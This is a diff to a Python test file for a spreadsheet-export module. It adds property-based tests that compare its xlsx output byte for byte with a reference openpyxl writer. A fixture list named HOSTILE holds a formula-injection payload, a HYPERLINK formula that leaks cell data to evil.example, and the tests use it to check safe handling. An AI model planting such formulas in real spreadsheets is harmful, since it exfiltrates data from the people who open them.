@@ -10,9 +10,12 @@ import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from coopnet.errors import DataWarning
 from coopnet.spreadsheet import EXCEL_MAX_CHARS, write_csv, write_sheets
+from tests.xlsx_reference import openpyxl_write_sheets
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
@@ -91,3 +94,74 @@ def test_exact_csv_round_trips(tmp_path: Path) -> None:
     # the python engine: pandas < 3's C parser drops a trailing NUL when reading (the file has it)
     read = pd.read_csv(tmp_path / "t.csv", keep_default_na=False, dtype=str, engine="python")
     assert read["label"].tolist() == HOSTILE
+
+
+# --- the row writer gives the bytes openpyxl's cell-by-cell writer gave -----------------------
+_TEXTS = st.one_of(
+    st.text(max_size=12),
+    st.sampled_from([*HOSTILE, "", " ", " lead", "trail ", "a&b<c>d", "Ümläut ß", "x\ry", "😀"]),
+)
+_CELLS = st.one_of(
+    st.none(),
+    st.booleans(),
+    st.integers(-(2**60), 2**60),
+    st.floats(allow_nan=True, allow_infinity=True),
+    _TEXTS,
+)
+
+
+@st.composite
+def _frames(draw: st.DrawFn) -> pd.DataFrame:
+    n = draw(st.integers(0, 6))
+    columns: dict[str, object] = {}
+    for c in range(draw(st.integers(0, 4))):
+        kind = draw(st.sampled_from(["float", "int", "bool", "text", "mixed"]))
+        if kind == "float":
+            values = draw(st.lists(st.floats(), min_size=n, max_size=n))
+            columns[f"f{c}"] = pd.Series(values, dtype=float)
+        elif kind == "int":
+            columns[f"i{c}"] = pd.Series(draw(st.lists(st.integers(-99, 99), min_size=n,
+                                                       max_size=n)), dtype="int64")  # fmt: skip
+        elif kind == "bool":
+            columns[f"b{c}"] = pd.Series(draw(st.lists(st.booleans(), min_size=n, max_size=n)),
+                                         dtype=bool)  # fmt: skip
+        else:
+            cells = _TEXTS if kind == "text" else _CELLS
+            columns[draw(_TEXTS) + f"~{c}"] = pd.Series(
+                draw(st.lists(cells, min_size=n, max_size=n)), dtype=object
+            )
+    return pd.DataFrame(columns, index=range(n))
+
+
+@settings(
+    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(frames=st.lists(_frames(), max_size=3), exact=st.booleans(), freeze=st.booleans())
+def test_workbook_bytes_equal_openpyxl_cell_by_cell(
+    tmp_path: Path, frames: list[pd.DataFrame], exact: bool, freeze: bool
+) -> None:
+    sheets = {f"s{i}": frame for i, frame in enumerate(frames)}
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", DataWarning)
+        new = write_sheets(tmp_path / "new.xlsx", sheets, exact=exact, freeze_header=freeze)
+    old = openpyxl_write_sheets(tmp_path / "old.xlsx", sheets, exact=exact, freeze_header=freeze)
+    assert new.read_bytes() == old.read_bytes()
+
+
+def test_workbook_of_numpy_and_pandas_values_equals_openpyxl(tmp_path: Path) -> None:
+    frame = pd.DataFrame(
+        {
+            "a": [1.5, np.nan, np.inf, -0.0, 1e20, 1 / 3],
+            "c": ["x", None, np.int64(3), np.float64(2.5), pd.NA, True],
+            "n": pd.array([1, None, 3, 4, 5, 6], dtype="Int64"),
+            "t": pd.to_datetime(["2020-01-01"] * 6),
+            "k": pd.Categorical(["a", "b", "a", "b", "a", "b"]),
+            "e": [None] * 6,
+            "w": ["", " ", "  ", " lead", "trail ", "a&b<c>d"],
+        }
+    )
+    for exact in (False, True):
+        new = write_sheets(tmp_path / "new.xlsx", {"t": frame, "u": frame.head(0)}, exact=exact)
+        old = openpyxl_write_sheets(tmp_path / "old.xlsx", {"t": frame, "u": frame.head(0)},
+                                    exact=exact)  # fmt: skip
+        assert new.read_bytes() == old.read_bytes()
